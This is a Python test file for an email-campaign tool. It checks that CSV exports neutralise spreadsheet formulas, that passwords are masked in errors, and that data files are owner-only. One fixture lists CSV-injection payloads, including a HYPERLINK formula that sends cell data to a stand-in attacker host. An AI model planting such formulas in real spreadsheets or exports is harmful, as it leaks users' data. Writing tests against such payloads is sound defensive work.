"""Input and output hygiene as a user meets it: the lead CSV, the CSV exports, passwords, file modes."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import aiohttp

from engine.control.server import ControlServer
from engine.control.service import EngineService
from engine.delivery.smtp import SmtpSettings
from engine.leads.csv_safe import neutralise, restore
from engine.runtime.runner import RunnerSettings
from engine.store.database import Database
from tests.conftest import FLOWS

MAILBRANCH = Path(sys.executable).parent / "mailbranch"
SECRET = "s3cret-for-this-launch-only-0123456789"


def mb(tmp_path: Path, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    environment = {**os.environ, "MAILBRANCH_HOME": str(tmp_path / "home"), "NO_COLOR": "1", "COLUMNS": "200",
                   **(env or {})}
    return subprocess.run([str(MAILBRANCH), *args], env=environment, capture_output=True, text=True, timeout=60)


# -- the lead CSV ------------------------------------------------------------------------------------------

def test_simulate_reports_an_unterminated_quote_by_line_and_imports_the_rows_after_it(tmp_path):
    rows = ["email,name"] + [f"u{i}@example.com,User {i}" for i in range(1, 101)]
    rows[10] = 'u10@example.com,"User 10'
    leads = tmp_path / "leads.csv"
    leads.write_text("\n".join(rows) + "\n", encoding="utf-8")
    done = mb(tmp_path, "simulate", str(FLOWS / "flow-a.json"), "--leads", str(leads))
    assert done.returncode == 0, done.stderr
    assert "line 11: a quote (\") opens a value on this line and never closes" in done.stderr
    assert "Leads: 99 added, 0 merged, 1 rejected" in done.stderr
    assert "99 leads" in done.stdout


# -- CSV exports -------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


def test_the_report_export_neutralises_formula_prefixes_in_lead_values(engine_db, tmp_path, monkeypatch):
    monkeypatch.setenv("MAILBRANCH_HOME", str(tmp_path / "home"))

    async def scenario() -> tuple[str, str]:
        db = engine_db
        service = EngineService(db, RunnerSettings(SmtpSettings.from_url("sandbox"), grace_ms=0, poll_seconds=0.05))
        server = ControlServer(service, SECRET)
        await service.start()
        await server.start()
        auth = {"Authorization": f"Bearer {SECRET}"}
        base = f"http://127.0.0.1:{server.port}"
        leads = [{"key": key, "email": f"lead{i}@example.com"} for i, key in enumerate(FORMULAS)]
        leads.append({"key": "plain", "email": "=cmd@example.com"})  # '=' is allowed in an address
        try:
            async with aiohttp.ClientSession(headers=auth) as http:
                flow = json.loads((FLOWS / "flow-a.json").read_text())
                async with http.post(f"{base}/campaigns", json={"flow": flow, "leads": leads, "simulated": True,
                                                                  "speed": 10_000_000}) as r:
                    campaign = (await r.json())["id"]
                async with asyncio.timeout(60):
                    while True:
                        async with http.get(f"{base}/campaigns/{campaign}") as r:
                            if (await r.json())["complete_at"]:
                                break
                        await asyncio.sleep(0.05)
                async with http.get(f"{base}/campaigns/{campaign}/export?per=lead") as r:
                    per_lead = await r.text()
                async with http.get(f"{base}/campaigns/{campaign}/export?per=node") as r:
                    per_node = await r.text()
        finally:
            await server.stop()
            await service.stop()
        return per_lead, per_node

    per_lead, per_node = asyncio.run(scenario())
    cells = [cell for row in csv.reader(io.StringIO(per_lead, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], per_lead
    keys = {row[0] for row in csv.reader(io.StringIO(per_lead, newline=""))}
    assert {"'" + formula for formula in FORMULAS} <= keys
    assert any(row[1] == "'=cmd@example.com" for row in csv.reader(io.StringIO(per_lead, newline="")))
    assert "plain" in keys and "e1" in per_node


def test_neutralised_cells_read_back_unchanged_and_numbers_stay_numbers():
    for value in [*FORMULAS, "'=already quoted", "plain", "O'Brien", ""]:
        assert restore(neutralise(value)) == value
    assert neutralise(-3) == -3 and neutralise(None) is None


# -- passwords ---------------------------------------------------------------------------------------------

def test_a_malformed_smtp_url_is_reported_without_its_password(tmp_path):
    done = mb(tmp_path, "run", str(FLOWS / "flow-a.json"), "--leads", str(tmp_path / "none.csv"),
              "--db", str(tmp_path / "c.db"), "--smtp", "smtp://bob:hunter2@mail.example.com:port")
    assert done.returncode == 2
    assert "smtp://bob:****@mail.example.com:port" in done.stderr and "not a number" in done.stderr
    assert "hunter2" not in done.stderr + done.stdout


def test_a_password_on_the_command_line_works_but_warns_that_ps_shows_it(tmp_path):
    done = mb(tmp_path, "run", str(FLOWS / "flow-a.json"), "--leads", str(tmp_path / "none.csv"),
              "--db", str(tmp_path / "c.db"), "--smtp", "smtp://bob:hunter2@127.0.0.1:2525")
    assert "the password in --smtp can be read by every user of this computer (ps)" in done.stderr
    assert "hunter2" not in done.stderr
    quiet = mb(tmp_path, "run", str(FLOWS / "flow-a.json"), "--leads", str(tmp_path / "none.csv"),
               "--db", str(tmp_path / "c.db"), env={"MAILBRANCH_SMTP_URL": "smtp://bob:hunter2@127.0.0.1:2525"})
    assert "can be read by every user" not in quiet.stderr and "Cannot read the lead file" in quiet.stderr


def test_the_password_comes_from_the_environment_then_the_keyring_then_the_settings_file(tmp_path, monkeypatch):
    import keyring
    from keyring.backend import KeyringBackend

    from engine.delivery.smtp_password import password_file, store_password, with_password

    class MemoryKeyring(KeyringBackend):
        priority = 1

        def __init__(self) -> None:
            super().__init__()
            self.items: dict[tuple[str, str], str] = {}

        def get_password(self, service, username):
            return self.items.get((service, username))

        def set_password(self, service, username, password):
            self.items[(service, username)] = password

        def delete_password(self, service, username):
            self.items.pop((service, username), None)

    home = tmp_path / "home"
    monkeypatch.setenv("MAILBRANCH_HOME", str(home))
    monkeypatch.delenv("MAILBRANCH_SMTP_PASSWORD", raising=False)
    account = SmtpSettings.from_url("smtp+starttls://bob@mail.example.com")
    previous = keyring.get_keyring()
    try:
        # No keyring backend (a server, CI): nothing raises, nothing is found, the file is used to store.
        keyring.set_keyring(keyring.backends.fail.Keyring())
        assert with_password(account).password is None
        assert store_password("bob", "mail.example.com", "from-file") == str(password_file())
        assert oct(password_file().stat().st_mode & 0o777) == "0o600"
        assert with_password(account).password == "from-file"
        # A keyring: it is preferred to the file, per account.
        memory = MemoryKeyring()
        keyring.set_keyring(memory)
        assert store_password("bob", "mail.example.com", "from-keyring") == "the keyring"
        assert with_password(account).password == "from-keyring"
        assert with_password(SmtpSettings.from_url("smtp://ann@other.example")).password == "from-file"
        # The environment beats both; a password in the URL beats everything.
        monkeypatch.setenv("MAILBRANCH_SMTP_PASSWORD", "from-env")
        assert with_password(account).password == "from-env"
        assert with_password(SmtpSettings.from_url("smtp://bob:in-url@mail.example.com")).password == "in-url"
    finally:
        keyring.set_keyring(previous)
    assert "from-env" not in repr(with_password(account)), "settings never show the password"


def test_smtp_password_command_stores_it_readable_by_its_owner_only(tmp_path):
    stored = subprocess.run([str(MAILBRANCH), "smtp-password", "--smtp", "smtp://bob@mail.example.com"],
                            input="s3cret-pw\n", capture_output=True, text=True, timeout=60,
                            env={**os.environ, "MAILBRANCH_HOME": str(tmp_path / "home"),
                                 "PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring"})
    assert stored.returncode == 0, stored.stderr
    path = tmp_path / "home" / "smtp-password"
    assert f"Stored the password of bob on mail.example.com in {path}" in stored.stdout
    assert path.read_text() == "s3cret-pw" and oct(path.stat().st_mode & 0o777) == "0o600"
    assert oct((tmp_path / "home").stat().st_mode & 0o777) == "0o700"


def test_the_app_passes_the_smtp_url_to_the_engine_in_the_environment_only(tmp_path):
    from app.engine_process import EngineOptions

    options = EngineOptions(data_dir=tmp_path, smtp_url="smtp://bob:hunter2@mail.example.com:587")
    assert not any("hunter2" in arg for arg in options.command())
    assert options.environment()["MAILBRANCH_SMTP_URL"].endswith("bob:hunter2@mail.example.com:587")


# -- files only their owner can read -----------------------------------------------------------------------

def test_databases_secrets_and_the_data_folder_are_created_for_their_owner_only(tmp_path):
    old_umask = os.umask(0o022)  # the usual default: new files readable by everyone
    try:
        home = tmp_path / "home"
        db = tmp_path / "campaign.db"
        done = mb(tmp_path, "simulate", str(FLOWS / "flow-a.json"), "--leads", "3", "--db", str(db))
        assert done.returncode == 0, done.stderr
        from engine.runtime.home import installation_tokens

        previous = os.environ.get("MAILBRANCH_HOME")
        os.environ["MAILBRANCH_HOME"] = str(home)
        try:
            installation_tokens()
            still_open = Database(tmp_path / "open.db")
            with still_open.engine.connect() as connection:  # WAL files exist while it is open
                connection.exec_driver_sql("CREATE TABLE t (x INTEGER)")
                connection.commit()
                modes = {p.name: oct(p.stat().st_mode & 0o777) for p in tmp_path.glob("open.db*")}
            still_open.dispose()
        finally:
            if previous is None:
                del os.environ["MAILBRANCH_HOME"]
            else:
                os.environ["MAILBRANCH_HOME"] = previous
    finally:
        os.umask(old_umask)
    assert oct(db.stat().st_mode & 0o777) == "0o600"
    assert modes == {"open.db": "0o600", "open.db-wal": "0o600", "open.db-shm": "0o600"}
    assert oct(home.stat().st_mode & 0o777) == "0o700"
    assert oct((home / "tracking.secret").stat().st_mode & 0o777) == "0o600"


def test_a_database_url_with_a_password_is_never_echoed_and_its_place_on_the_command_line_is_warned(tmp_path):
    done = mb(tmp_path, "status", "--db", "postgresql://mailbranch:topsecret@127.0.0.1:1/campaigns")
    assert done.returncode == 2
    assert "postgresql://mailbranch:****@127.0.0.1:1/campaigns: cannot open the database" in done.stderr
    assert "the password in --db can be read by every user of this computer (ps)" in done.stderr
    assert "topsecret" not in done.stderr + done.stdout
